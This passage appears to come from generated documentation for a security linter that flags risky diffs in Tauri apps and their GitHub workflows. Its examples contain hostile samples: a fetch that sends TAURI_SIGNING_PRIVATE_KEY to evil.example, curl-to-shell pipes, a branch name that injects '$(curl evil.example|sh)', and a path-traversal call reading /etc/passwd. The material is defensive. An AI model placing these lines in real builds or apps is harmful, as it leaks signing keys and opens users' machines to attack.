\`scripts/build.mjs\` newly reaches out of the build: \`const answer = await fetch("https://evil.example/" + process.env.TAURI_SIGNING_PRIVATE_KEY);\`:

\`\`\`
const answer = await fetch("https://evil.example/" + process.env.TAURI_SIGNING_PRIVATE_KEY);
\`\`\`

### It says nothing when a formatter lays out the same calls

\`scripts/build.mjs\`:

\`\`\`diff
-import { execSync } from "node:child_process";
+import { execSync } from 'node:child_process'
 import { names } from "./names.mjs";

-const commit = execSync("git rev-parse HEAD").toString();
-console.log(commit, names);
+const commit = execSync('git rev-parse HEAD')
+  .toString()
+// curl https://evil.example | sh
+console.log(commit, names,)
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)
- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)
`,"build/token-may-write":`# The token of a job may write more: \`build/token-may-write\`

Severity: high for \`write-all\`; medium for scopes that change code, releases or workflows, and for a block that goes; low for the rest.

Since: 0.1.0

\`permissions\` of a job or a workflow newly let its token write. Or a job loses the block that held its token.

## Why it matters

All that runs in the job has the token. With \`contents: write\` it can change releases and push code; with \`id-token: write\` it can log in to other services as t\
he repository.

## What to do

Write \`permissions: {}\` at the top of the workflow, and give scopes to single jobs.

## When it says nothing

- The job gets another name.
- A job without a block stays without one.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a scope that changes releases

\`.github/workflows/release.yml\`:

\`\`\`diff
 on: push
 permissions:
-  contents: read
+  contents: write
 jobs:
   release:
\`\`\`

Job \`release\` of \`release.yml\` newly has a token that may write: \`contents: write\`:

\`\`\`
contents: write  # could read TAURI_SIGNING_PRIVATE_KEY
\`\`\`

### It says nothing when the job gets another name

\`.github/workflows/release.yml\`:

\`\`\`diff
   contents: read
 jobs:
-  release:
+  publish:
     runs-on: ubuntu-latest
     steps:
\`\`\`

<!-- end examples -->

## References

- [GitHub: security hardening for Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)\

- [GitHub: permissions of the token](https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication)
`,"build/tool-replaced":`# Another program takes the place of one of the build: \`build/tool-replaced\`

Severity: high.

Since: 0.1.0

A job newly sets a variable or an input by which Tauri, cargo, npm or Node take another program than their own: \`TAURI_BUNDLER_TOOLS_GITHUB_MIRROR\`, \`TAURI_WIND\
OWS_SIGNTOOL_PATH\`, \`RUSTC_WRAPPER\`, \`CARGO_TARGET_*_LINKER\`, \`CARGO_TARGET_*_RUNNER\`, \`NODE_OPTIONS\` that load code, or \`tauriScript\` of tauri-action.

## Why it matters

A wrapper of the compiler gets each file, and may compile another one. A mirror answers with the tools that make the installers. The signing tool gets the file \
that it signs, and may swap it.

## What to do

Take the program from where the project has it, and pin it.

## When it says nothing

- A cache of the compiler: \`RUSTC_WRAPPER: sccache\`.
- How much memory Node may take.
- \`tauriScript: pnpm tauri\`: the CLI that the project has.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another place for the tools of the bundler

\`.github/workflows/release.yml\`:

\`\`\`diff
   release:
     runs-on: ubuntu-latest
+    env:
+      TAURI_BUNDLER_TOOLS_GITHUB_MIRROR: https://tools.evil.example
     steps:
       - uses: actions/checkout@v5
\`\`\`

Job \`release\` of \`release.yml\` newly builds with \`TAURI_BUNDLER_TOOLS_GITHUB_MIRROR: https://tools.evil.example\`:

\`\`\`
TAURI_BUNDLER_TOOLS_GITHUB_MIRROR: https://tools.evil.example  # could read TAURI_SIGNING_PRIVATE_KEY
\`\`\`

### It says nothing of a cache of the compiler

\`.github/workflows/release.yml\`:

\`\`\`diff
   release:
     runs-on: ubuntu-latest
+    env:
+      RUSTC_WRAPPER: sccache
     steps:
       - uses: actions/checkout@v5
\`\`\`

<!-- end examples -->

## References

- [Cargo: environment variables](https://doc.rust-lang.org/cargo/reference/environment-variables.html)
- [Tauri: environment variables](https://v2.tauri.app/reference/environment-variables/)
`,"build/tool-unpinned":`# A job fetches a tool that no version pins: \`build/tool-unpinned\`

Severity: medium.

Since: 0.1.0

A job that builds or releases the app, holds a secret or may write newly installs a tool without an exact version or a lock (\`npm install -g\`, \`npx tool@latest\`\
, \`pip install\`, \`cargo install\` without \`--locked\`), or pipes a download into a shell.

## Why it matters

Whoever publishes the tool, or answers at that address, runs code in the job on the next run, without any change of the repository.

## What to do

Name an exact version. Download files to disk and check their hash before you run them.

## When it says nothing

- The same tool is fetched in another job.
- The version is exact, or a lockfile holds the tool.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a download that is piped into a shell

\`.github/workflows/release.yml\`:

\`\`\`diff
       - uses: cache/pinned@1111111111111111111111111111111111111111
       - uses: other/tagged@v1
+      - run: curl -sSf https://get.example/tool.sh | bash
       - run: npm ci
       - run: npx tauri build
\`\`\`

Job \`release\` of \`release.yml\` newly runs \`curl -sSf https://get.example/tool.sh | bash\`, which nothing pins:

\`\`\`
curl -sSf https://get.example/tool.sh | bash  # could read TAURI_SIGNING_PRIVATE_KEY
\`\`\`

### It says nothing of an exact version

\`.github/workflows/release.yml\`:

\`\`\`diff
       - uses: cache/pinned@1111111111111111111111111111111111111111
       - uses: other/tagged@v1
+      - run: npm install -g pnpm@10.1.0 && cargo install --locked cargo-xwin && pip install upload-tool==1.2.3
       - run: npm ci
       - run: npx tauri build
\`\`\`

<!-- end examples -->

## References

- [GitHub: security hardening for Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)\

- [GitHub: permissions of the token](https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication)
`,"build/untrusted-code-with-secrets":`# A job runs what strangers write: \`build/untrusted-code-with-secrets\`

Severity: critical with secrets or a token that may write; medium with secrets that strangers' events don't get; low without.

Since: 0.1.0

A job of \`pull_request_target\`, \`workflow_run\` or \`issue_comment\` checks out the head of a pull request; a script has the title or the branch of a pull request \
put into it; pull requests run on machines of one's own.

## Why it matters

Such events run with the secrets of the repository, for anyone who opens a pull request. Text that is put into a script is code: a branch may be called \`$(curl \
evil.example|sh)\`.

## What to do

Build pull requests in jobs of the event \`pull_request\`. Hand texts over as \`env\`.

## When it says nothing

- A checkout of the base branch.
- The text is handed over in \`env\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a checkout of the head beside secrets

\`.github/workflows/release.yml\`:

\`\`\`diff
-on: push
+on: pull_request_target
 permissions:
   contents: read
@@
     steps:
       - uses: actions/checkout@v5
+        with:
+          ref: \${{ github.event.pull_request.head.sha }}
       - uses: cache/pinned@1111111111111111111111111111111111111111
       - uses: other/tagged@v1
\`\`\`

Job \`release\` of \`release.yml\` newly runs what strangers write: \`actions/checkout@v5 with ref: \${{ github.event.pull_request.head.sha }}\`:

\`\`\`
actions/checkout@v5 with ref: \${{ github.event.pull_request.head.sha }}  # could read TAURI_SIGNING_PRIVATE_KEY
\`\`\`

### It says nothing of text that is handed over

\`.github/workflows/release.yml\`:

\`\`\`diff
-on: push
+on: pull_request_target
 permissions:
   contents: read
@@
       - uses: cache/pinned@1111111111111111111111111111111111111111
       - uses: other/tagged@v1
+      - run: echo "$TITLE"
+        env:
+          TITLE: \${{ github.event.pull_request.title }}
       - run: npm ci
       - run: npx tauri build
\`\`\`

<!-- end examples -->

## References

- [GitHub: security hardening for Actions](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions)\

- [GitHub: permissions of the token](https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication)
`,"bundle/downgrade-allowed":`# Older releases may be installed again: \`bundle/downgrade-allowed\`

Severity: medium.

Since: 0.1.0

\`bundle.windows.allowDowngrades\` was \`false\`, and is \`true\` or gone.

## Why it matters

An old release has holes that everybody can read of. Whoever brings a person to install it has them again.

## What to do

Keep \`allowDowngrades\` at \`false\`.

## When it says nothing

- The app never refused older releases, which is how Tauri begins.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a guard that is gone

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "bundle": {
-    "windows": {
-      "allowDowngrades": false
-    }
+    "windows": {}
   }
 }
\`\`\`

Any installer of the app can newly replace a newer release by an older one on Windows:

\`\`\`
notes-1.0.0-setup.exe /S
\`\`\`

### It says nothing about the default written out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "bundle": {
-    "windows": {}
+    "windows": {
+      "allowDowngrades": true
+    }
   }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/file-shipped":`# Other files are shipped with the app: \`bundle/file-shipped\`

Severity: medium for files that are named like secrets and for patterns that take in whatever lies there; low for other new entries; info where the files of a k\
nown entry change; low for an app that is new.

Since: 0.1.0

An entry of \`bundle.resources\`, or of the tables of files of a package, is new, or it takes in other files.

## Why it matters

What is shipped, everyone has. A scope with \`$RESOURCE\` lets pages read it, and a command of the shell may start it. A pattern such as \`../**/*\` takes in keys, \
settings and history of the machine that builds.

## What to do

Name the files that the app needs one by one, from a folder that holds nothing else.

## When it says nothing

- The file moved, and its content is the same.
- \`./\` stands before the path.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a pattern over the whole repository

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "bundle": {
-    "resources": []
+    "resources": [
+      "../**/*"
+    ]
   }
 }
\`\`\`

The app can newly ship \`../**/*\`, a pattern that takes in whatever lies there:

\`\`\`
$RESOURCE/../**/*
\`\`\`

### It says nothing when a file moves

\`src-tauri/lang/de.txt\`:

\`\`\`diff
-Notizen
\`\`\`

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "resources": [
-      "lang/de.txt"
+      "text/de.txt"
     ]
   }
\`\`\`

\`src-tauri/text/de.txt\`:

\`\`\`diff
+Notizen
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/identity-changed":`# The app has another name: \`bundle/identity-changed\`

Severity: low for identifiers; info for names.

Since: 0.1.0

The identifier, the name, the publisher, the homepage or the upgrade code has another value.

## Why it matters

Folders, links, permissions that people gave and updates go by the identifier. With another app's one, the app takes over what is kept there.

## What to do

Keep the identifier for as long as the app lives.

## When it says nothing

- The same name moves to another file.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another name

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
 {
-  "productName": "notes",
+  "productName": "memos",
   "identifier": "org.example.notes"
 }
\`\`\`

The app can newly be installed under the name \`memos\`:

\`\`\`
memos
\`\`\`

### It says nothing when keys change places

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
 {
-  "productName": "notes",
-  "identifier": "org.example.notes"
+  "identifier": "org.example.notes",
+  "productName": "notes"
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/installer-code-changed":`# The installer runs other code: \`bundle/installer-code-changed\`

Severity: high for a new one, medium for a new entry of the desktop or a file of texts; medium where a known one newly does something telling; low for its other\
 text; low for an app that is new.

Since: 0.1.0

A key of the bundle names a script of a Debian or RPM package, a hook, template or language file of NSIS, a template or fragment of the MSI, an entry of the des\
ktop or a template of XcodeGen, and it or its text is new.

## Why it matters

Such code runs with the rights of root, of an administrator or of the system, on the machine of everyone who installs the app; the template of XcodeGen runs on \
the machine that builds and signs it. A hook of NSIS can start any program, and so can a file of its texts.

## What to do

Read the new lines. Leave to the installer what only copies files, and do the rest in the app, where it has the rights of the person alone.

## When it says nothing

- The file moved, and its text is the same.
- A line moved within the file.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a new hook

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "windows": {
-      "nsis": {}
+      "nsis": {
+        "installerHooks": "./hooks.nsh"
+      }
     }
   }
\`\`\`

The installer can newly run \`./hooks.nsh\` on people's machines on Windows:

\`\`\`
ExecWait "$INSTDIR\\\\setup.exe"
\`\`\`

### It says nothing when the hook moves

\`src-tauri/hooks.nsh\`:

\`\`\`diff
-!macro NSIS_HOOK_POSTINSTALL
-  ExecWait "$INSTDIR\\\\setup.exe"
-!macroend
\`\`\`

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "windows": {
       "nsis": {
-        "installerHooks": "hooks.nsh"
+        "installerHooks": "windows/hooks.nsh"
       }
     }
\`\`\`

\`src-tauri/windows/hooks.nsh\`:

\`\`\`diff
+!macro NSIS_HOOK_POSTINSTALL
+  ExecWait "$INSTDIR\\\\setup.exe"
+!macroend
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/installer-elevated":`# The installer gets more rights: \`bundle/installer-elevated\`

Severity: critical for the elevated update task; medium for an installer for all people of a machine; low for an app that is new.

Since: 0.1.0

\`bundle.windows.wix.enableElevatedUpdateTask\` is on, or \`bundle.windows.nsis.installMode\` is \`perMachine\` or \`both\`.

## Why it matters

The update task runs \`msiexec\` on a file in \`%TEMP%\` with the highest rights, whenever any program starts it: a ready way around the question that Windows asks.\
 An elevated installer gives its rights to every hook and every file that it runs.

## What to do

Leave the update task off, and let updates ask. Install for the current person unless the app needs more.

## When it says nothing

- The mode goes from \`perMachine\` to \`currentUser\`, or the task is turned off.
- The same value moves to the platform file of Windows.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags the update task

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "windows": {
-      "wix": {}
+      "wix": {
+        "enableElevatedUpdateTask": true
+      }
     }
   }
\`\`\`

Any program that an administrator runs can newly have what it puts into \`%TEMP%\` installed with the rights of the system, without a prompt, on Windows:

\`\`\`
schtasks /run /tn "Update notes - Skip UAC"
\`\`\`

### It says nothing when the setting moves to the platform file

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "productName": "notes",
   "identifier": "org.example.notes",
-  "bundle": {
-    "windows": {
-      "nsis": {
-        "installMode": "both"
-      }
-    }
-  }
+  "bundle": {}
 }
\`\`\`

\`src-tauri/tauri.windows.conf.json\`:

\`\`\`diff
+{"bundle":{"windows":{"nsis":{"installMode":"both"}}}}
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/native-code-added":`# Other native code is loaded: \`bundle/native-code-added\`

Severity: medium; low for Apple's own frameworks; low for an app that is new.

Since: 0.1.0

\`bundle.macOS.frameworks\` or \`bundle.iOS.frameworks\` has an entry that it had not, or the file that one names has other content.

## Why it matters

The app loads such code into its own process, where it may do what the app may, and no permission asks it.

## What to do

Say which release of which source it is, and compare its hash.

## When it says nothing

- The file moved, and its bytes are the same.
- The path is written with \`./\` in front.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a library of the repository

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "macOS": {
-      "frameworks": []
+      "frameworks": [
+        "./libs/libsync.dylib"
+      ]
     }
   }
\`\`\`

The app can newly load the native code in \`./libs/libsync.dylib\` on macOS:

\`\`\`
dlopen("@rpath/./libs/libsync.dylib")
\`\`\`

### It says nothing when the path is spelt differently

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "macOS": {
       "frameworks": [
-        "libs/libsync.dylib"
+        "./libs/libsync.dylib"
       ]
     }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/package-relation-added":`# The package touches another package: \`bundle/package-relation-added\`

Severity: medium where it replaces, removes or stands for one; low where it brings one in; info for how it is ordered; low for an app that is new.

Since: 0.1.0

A list of the Debian or RPM package has a name that it had not.

## Why it matters

A package that replaces or conflicts with another one takes it away from every machine that the app is installed on, and with it its updates.

## What to do

Bring in what the app needs, and leave the rest alone.

## When it says nothing

- Another release of the same package is asked for.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a package that is replaced

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "linux": {
       "deb": {
-        "replaces": []
+        "replaces": [
+          "openssl"
+        ]
       }
     }
\`\`\`

The package can newly replace the system's package \`openssl\` on Linux:

\`\`\`
apt install ./notes.deb
\`\`\`

### It says nothing about another release

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       "deb": {
         "depends": [
-          "libwebkit2gtk-4.1-0"
+          "libwebkit2gtk-4.1-0 (>= 2.42)"
         ]
       }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/packing-changed":`# The app is packed differently: \`bundle/packing-changed\`

Severity: low for tools and libraries from elsewhere; info for the rest.

Since: 0.1.0

A kind of package is new, or a switch of the bundle is on.

## Why it matters

A new kind of package brings settings into force that decided nothing before. A library that comes in the bundle gets no repairs from the system.

## What to do

Look at the settings of the new kind of package, too.

## When it says nothing

- "all" was there already.
- A switch is turned off.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another kind of package

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "targets": [
-      "deb"
+      "deb",
+      "msi"
     ]
   }
\`\`\`

The app can newly be packed as \`msi\`:

\`\`\`
tauri build --bundles msi
\`\`\`

### It says nothing when all kinds were there

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "bundle": {
-    "targets": "all"
+    "targets": [
+      "deb",
+      "msi"
+    ]
   }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/privileged-file-installed":`# A package installs a file that the system obeys: \`bundle/privileged-file-installed\`

Severity: critical for sudoers, polkit, systemd, cron, the loader of libraries, sources of packages, logins and launch daemons; high for udev, the system bus, p\
rofiles, launch agents and other code in a bundle; medium for commands in \`bin\`; low for an app that is new.

Since: 0.1.0

An entry of \`deb.files\`, \`rpm.files\` or \`appimage.files\` below \`bundle.linux\`, or of \`bundle.macOS.files\`, has such a target, or its content there changed.

## Why it matters

Packages are installed as root, and so are their files. A line in \`/etc/sudoers.d\` gives any program of the person the whole machine; a unit of systemd runs at \
every start.

## What to do

Leave such files to whoever runs the machine. If the app needs a service, let people install it themselves, and run it without root.

## When it says nothing

- The file moved in the repository, and lands with the same content.
- Icons, pages of the manual and completions below \`/usr/share\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a rule of sudo

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "linux": {
       "deb": {
-        "files": {}
+        "files": {
+          "/etc/sudoers.d/notes": "linux/sudoers"
+        }
       }
     }
\`\`\`

A file that the package puts at \`/etc/sudoers.d/notes\` can newly decide who may act as root on Linux:

\`\`\`
install -o root linux/sudoers /etc/sudoers.d/notes
\`\`\`

### It says nothing when the file moves in the repository

\`src-tauri/linux/notes.rules\`:

\`\`\`diff
-polkit.addRule(() => polkit.Result.NOT_HANDLED);
\`\`\`

\`src-tauri/packaging/notes.rules\`:

\`\`\`diff
+polkit.addRule(() => polkit.Result.NOT_HANDLED);
\`\`\`

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       "deb": {
         "files": {
-          "/etc/polkit-1/rules.d/notes.rules": "linux/notes.rules"
+          "/etc/polkit-1/rules.d/notes.rules": "packaging/notes.rules"
         }
       }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/program-changed":`# A shipped program has other bytes: \`bundle/program-changed\`

Severity: medium; low for an app that is new.

Since: 0.1.0

A file of a program in \`bundle.externalBin\` (in Tauri 1: \`tauri.bundle.externalBin\`) has other content, or is there for another target.

## Why it matters

A sidecar is signed and installed with the app, and nobody can read it in a diff. Whoever replaces its file has code on every machine.

## What to do

Say which build of which source the file is, and compare its hash. Better, let the build fetch it by its hash.

## When it says nothing

- The file moved, and its bytes are the same.
- The program itself is new: then \`config/sidecar-added\` tells of it.
- The repository has no such file, since the build brings it.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags other bytes under the same name

\`src-tauri/bin/tool-x86_64-unknown-linux-gnu\`:

\`\`\`diff
-one build
+another build
\`\`\`

The app can newly start other code as \`bin/tool\`: \`src-tauri/bin/tool-x86_64-unknown-linux-gnu\` holds other bytes:

\`\`\`
Command.sidecar("bin/tool")
\`\`\`

### It says nothing when the program moves

\`src-tauri/bin/tool-x86_64-unknown-linux-gnu\`:

\`\`\`diff
-one build
\`\`\`

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "externalBin": [
-      "bin/tool"
+      "tools/tool"
     ]
   }
\`\`\`

\`src-tauri/tools/tool-x86_64-unknown-linux-gnu\`:

\`\`\`diff
+one build
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/signing-changed":`# The app is signed differently: \`bundle/signing-changed\`

Severity: medium for another signer or none; info for the first one; low for weak hashes and for times without TLS; info for the protocol of times; low for an a\
pp that is new.

Since: 0.1.0

A key that names the certificate, identity or team has another value or none, or one that says how to sign is weaker.

## Why it matters

Systems and people trust the app by its signature. An app that nobody signed is as trusted as any other download, and one that somebody else signed is theirs.

## What to do

Keep the certificate of the app, and say in the pull request when it is renewed.

## When it says nothing

- The value moves to a platform file.
- The environment overrides the value: that is seen in the workflow that sets it.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags no signer

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "macOS": {
-      "signingIdentity": "Developer ID Application: Example (A1B2C3D4E5)"
+      "signingIdentity": "-"
     }
   }
\`\`\`

The app can newly be built without a signer, by \`bundle.macOS.signingIdentity\`, on macOS:

\`\`\`
codesign --sign -
\`\`\`

### It says nothing when the value moves to the platform file

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "productName": "notes",
   "identifier": "org.example.notes",
-  "bundle": {
-    "macOS": {
-      "signingIdentity": "Developer ID Application: Example (A1B2C3D4E5)"
-    }
-  }
+  "bundle": {}
 }
\`\`\`

\`src-tauri/tauri.macos.conf.json\`:

\`\`\`diff
+{"bundle":{"macOS":{"signingIdentity":"Developer ID Application: Example (A1B2C3D4E5)"}}}
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"bundle/webview-outdated":`# The app runs on an older browser or system: \`bundle/webview-outdated\`

Severity: medium for a browser that the app brings; low for none, and for an older one; info for older systems; low for an app that is new.

Since: 0.1.0

\`webviewInstallMode\` is \`fixedRuntime\` or \`skip\`, or a minimum version is lower or gone.

## Why it matters

The browser parses everything that others send. One that is in the bundle gets no repairs until the app itself is updated.

## What to do

Leave the browser to the system, which updates it, and name the least release that has the repairs you need.

## When it says nothing

- The least release is a later one.
- The browser is left to the system again.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a browser in the bundle

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "bundle": {
-    "windows": {}
+    "windows": {
+      "webviewInstallMode": {
+        "type": "fixedRuntime",
+        "path": "./webview2"
+      }
+    }
   }
 }
\`\`\`

The app can newly show its pages in the browser in \`./webview2\`, which nobody updates, on Windows:

\`\`\`
./webview2/msedgewebview2.exe
\`\`\`

### It says nothing when the least release is a later one

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "windows": {
-      "minimumWebview2Version": "104.0"
+      "minimumWebview2Version": "110.0.1587.40"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/#bundleconfig)
- [Tauri 2: distribution](https://v2.tauri.app/distribute/)
`,"commands/check-removed":`# A command no longer checks what a page names: \`commands/check-removed\`

Severity: high; critical where sites may call the command; info where no page may.

Since: 0.1.0

A command looked at what a page hands over before it used it, and now it uses the same without looking: the check is gone, stands after the use, or no longer de\
cides whether the use happens.

## Why it matters

A check that somebody wrote was needed. What goes away while the call stays is worse than a new command: pages, and everybody who knows the app, call it already\
.

## What to do

Keep the check, or make another one that refuses as much.

## When it says nothing

- Another check took its place.
- The call is gone too.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a check that is gone

\`src-tauri/src/lib.rs\`:

\`\`\`diff
 fn read_note(name: String) -> Result<String, String> {
     let path = PathBuf::from(FOLDER).join(name).canonicalize().map_err(|_| "no such note")?;
-    if !path.starts_with(FOLDER) {
-        return Err("outside of the notes".into());
-    }
     fs::read_to_string(path).map_err(|error| error.to_string())
 }
\`\`\`

Pages of the app can newly read files that they name, through the command \`read_note\`:

\`\`\`
invoke("read_note", {"name":"../../../../etc/passwd"})
\`\`\`

### It says nothing of another check

\`src-tauri/src/lib.rs\`:

\`\`\`diff
 #[tauri::command]
 fn read_note(name: String) -> Result<String, String> {
-    let path = PathBuf::from(FOLDER).join(name).canonicalize().map_err(|_| "no such note")?;
-    if !path.starts_with(FOLDER) {
-        return Err("outside of the notes".into());
-    }
+    let path = PathBuf::from(FOLDER).join(std::path::Path::new(&name).file_name().ok_or("no name")?);
     fs::read_to_string(path).map_err(|error| error.to_string())
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: calling Rust from the frontend](https://v2.tauri.app/develop/calling-rust/)
- [OWASP: input validation](https://cheatsheetseries.owasp.org/cheatsheets/Input_Validation_Cheat_Sheet.html)
`,"commands/exposed":`# Commands are new, or take more: \`commands/exposed\`

Severity: info.

Since: 0.1.0

The app registers commands that it did not register before, or a command takes another text from the page, and what was followed of them reaches no file, progra\
m, server or window unchecked. What reaches one past a check is named with the check: a check is never called safe.

## Why it matters

Each command is a door between the page and the machine. Where an app declares none of its commands, every window may call all of them.

## What to do

Nothing has to be done. If no page needs a command, leave it out of the list that registers it.

## When it says nothing

- A command is only renamed, moved to another file, or written otherwise.
- A command takes less.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a command that is new

\`src-tauri/src/lib.rs\`:

\`\`\`diff
 }

+#[tauri::command]
+fn wave(hand: Option<String>, times: u8) -> String {
+    format!("{hand:?} {times}")
+}
+
 pub fn run() {
     tauri::Builder::default()
-        .invoke_handler(tauri::generate_handler![greet])
+        .invoke_handler(tauri::generate_handler![greet, wave])
         .run(tauri::generate_context!())
         .unwrap();
\`\`\`

Pages can newly call \`wave\` with arguments that they choose:

\`\`\`
invoke("wave", {"hand":"\u2026","times":"\u2026"})
\`\`\`

### It says nothing of a number that a command newly takes

\`src-tauri/src/lib.rs\`:

\`\`\`diff

 #[tauri::command]
-fn greet(name: String) -> String {
+fn greet(name: String, times: u8) -> String {
     format!("Hello {name}")
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: calling Rust from the frontend](https://v2.tauri.app/develop/calling-rust/)
- [Tauri 2: security](https://v2.tauri.app/security/)
`,"commands/unchecked-path":`# A command uses a path that a page names: \`commands/unchecked-path\`

Severity: medium; one step more where sites may call the command; info where no page may; at most low for an app that is new.

Since: 0.1.0

A command of the app, one that \`generate_handler!\` or \`collect_commands!\` registers, takes a text from the page and uses it as a path: it reads, writes, moves o\
r removes what is there. Nothing on the way looks at it. Toril follows the input through names, fields, closures, methods and \`format!\`, and through up to three\
 calls into code of the same repository. It tells the parameter's line and the call's.

## Why it matters

The page is what an attacker gets into first: by a stored message, a compromised package, a hijacked site. Rust is what such a page must not be able to steer. \`\
fs::read_to_string(root.join(name))\` with a name from the page reads \`../../../../etc/passwd\`, and an absolute path leaves the folder altogether.

## What to do

Resolve the path and refuse what leads out of the folder: \`let path = root.join(name).canonicalize()?;\` and \`if !path.starts_with(&root) { return Err(\u2026) }\`. Whe\
re a name is all that is needed, take \`Path::new(&name).file_name()\`. Where the app has a scope, ask \`is_allowed\`.

## When it says nothing

- The path is looked at on the way: a canonical path that \`starts_with\` a folder, \`file_name()\`, \`ParentDir\` refused, a scope, a closed \`match\` or list. That is\
 told by \`commands/exposed\`. \`path.contains("Notes")\` is no check: \`~/Notes/../.ssh\` contains it too.
- The page chooses what is written, and not where: \`fs::write(FILE, data)\`.
- The same command gave the same power before, by whatever call and in whatever file.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a command that reads any file

\`src-tauri/src/lib.rs\`:

\`\`\`diff
 }

+#[tauri::command]
+fn read_note(path: String) -> Result<String, String> {
+    fs::read_to_string(&path).map_err(|error| error.to_string())
+}
+
 pub fn run() {
     tauri::Builder::default()
-        .invoke_handler(tauri::generate_handler![greet])
+        .invoke_handler(tauri::generate_handler![greet, read_note])
         .run(tauri::generate_context!())
         .unwrap();
\`\`\`

